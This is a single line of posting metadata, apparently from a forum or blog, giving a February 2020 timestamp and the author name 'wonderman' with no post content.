Posted on Wed, 12 Feb 2020 22:38:57 -0500 by wonderman